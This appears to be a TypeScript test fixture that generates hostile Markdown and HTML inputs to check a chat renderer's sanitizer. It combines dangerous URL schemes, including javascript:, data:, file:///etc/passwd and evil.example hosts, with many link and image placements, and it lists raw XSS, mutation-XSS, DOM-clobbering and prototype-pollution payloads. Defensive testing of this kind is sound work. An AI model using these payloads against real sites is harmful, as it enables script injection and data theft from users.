/*
 * Hostile Markdown of our own, so that something is proven where the shared rows are not there: every way to write an
 * address with every address that must not be followed, and raw HTML that runs, fetches, restyles or clobbers.
 */

/** One hostile text. `chunks`: how it comes. */
export interface HostileRow {
  readonly id: string;
  readonly payload: string;
  readonly chunks?: readonly string[];
}

const addresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript&colon;alert(1)',
  'java&Tab;script:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:https://evil.example',
  '//evil.example/?q=secret',
  '\\\\evil.example\\x',
  '/logout',
  '#name',
  'https://evil.example/?q=secret',
  'https://user:pass@evil.example/',
  'https://xn--e1awd7f.example/',
  'https://evil.example/" onmouseover="alert(1)',
];

/** Where an address can stand. */
const places: Readonly<Record<string, (address: string) => string>> = {
  link: (address) => `[x](${address})`,
  'link in angles': (address) => `[x](<${address}> "t")`,
  'link over lines': (address) => `[x\ny](\n${address}\n"t")`,
  'reference link': (address) => `[x][r] and [r] and [r][]\n\n[r]: ${address} "t"\n`,
  'reference before its use': (address) => `[r]: <${address}>\n\n> - [x][r]\n`,
  image: (address) => `![secret](${address})`,
  'reference image': (address) => `![x][r]\n\n[r]: ${address}\n`,
  'linked image': (address) => `[![x](${address} 't')](${address})`,
  'image in a heading': (address) => `# a ![x](${address})\n\nb\n---\n`,
  'image in a table': (address) => `| a |\n|---|\n| ![x](${address}) [y](${address}) |\n`,
  'image in a list in a quote': (address) => `> - [ ] ![x](${address})\n> - ![y][r]\n>\n> [r]: ${address}\n`,
  'image in emphasis': (address) => `***a ~~![x](${address})~~***`,
  'image in a footnote': (address) => `a[^1]\n\n[^1]: ![x](${address}) [y](${address})\n`,
  'image in an alert': (address) => `> [!NOTE]\n> ![x](${address})\n`,
  'image in a section': (address) =>
    `<details>\n<summary>![x](${address})</summary>\n\n![y](${address})\n\n</details>\n`,
  autolink: (address) => `<${address}>`,
  'bare address': (address) => `a ${address} b www.evil.example/${address}`,
  'fence info': (address) => `\`\`\`html ${address}\n${address}\n\`\`\`\n`,
  formula: (address) => `$\\href{${address}}{x}$ and $$\\includegraphics{${address}}$$`,
  'raw link': (address) => `<a href="${address}" target=_self ping="${address}">x</a>`,
  'raw image': (address) => `<img src="${address}" srcset="${address} 2x" onerror=alert(1)>`,
};

const texts: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/x.svg#a"/><image href="https://evil.example/x.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=https://evil.example></iframe>',
  '<object data=https://evil.example/x></object><embed src=https://evil.example/x>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p class="message" id=root slot=actions part=bubble>x</p>',
  '<form action=https://evil.example><input type=submit autofocus></form>',
  '<input type=image src=https://evil.example/x>',
  '<button popovertarget=x onclick=alert(1)>Send</button>',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<video poster=https://evil.example/x><source src=https://evil.example/x onerror=alert(1)></video>',
  '<picture><source srcset=https://evil.example/x><img></picture>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<x id=body name=forms><img name=cookie><a id=location>',
  '<template><script>alert(1)</script></template><slot onslotchange=alert(1)></slot>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- a hidden prompt --><?php alert(1) ?><![CDATA[<img src=x onerror=alert(1)>]]>',
  '<kbd onclick=alert(1)>x</kbd><kbd><script>alert(1)</script></kbd>',
  '<kbd/onclick=alert(1)>x</kbd\n><sub\nonclick=alert(1)>y',
  '<chat-stream endpoint=https://evil.example></chat-stream><p is=chat-stream>',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</div></div></section></body></html><h1>outside</h1>',
  '<div>\n<img src=x\nonerror=alert(1)>\n</div>',
  '```html" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '```constructor\n__proto__\n```\n\n```__proto__\n<img src=x onerror=alert(1)>\n```\n',
  '[__proto__] [constructor] [toString]\n\n[__proto__]: javascript:alert(1)\n',
  '[x](https://evil.example "\u202e" onclick=alert(1)")',
  '[https://bank.example](https://evil.example/) [\u2800](https://evil.example)',
  '$\\htmlData{x=y}{z} \\url{javascript:alert(1)} \\style{color:red}{x}$',
  'a[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: b\n',
];

/** All of them; none is anybody else's. */
export const ownHostileRows: readonly HostileRow[] = [
  ...Object.entries(places).flatMap(([place, write]) =>
    addresses.map((address, at) => ({id: `own ${place} ${at}`, payload: write(address)})),
  ),
  ...texts.map((payload, at) => ({id: `own text ${at}`, payload})),
];
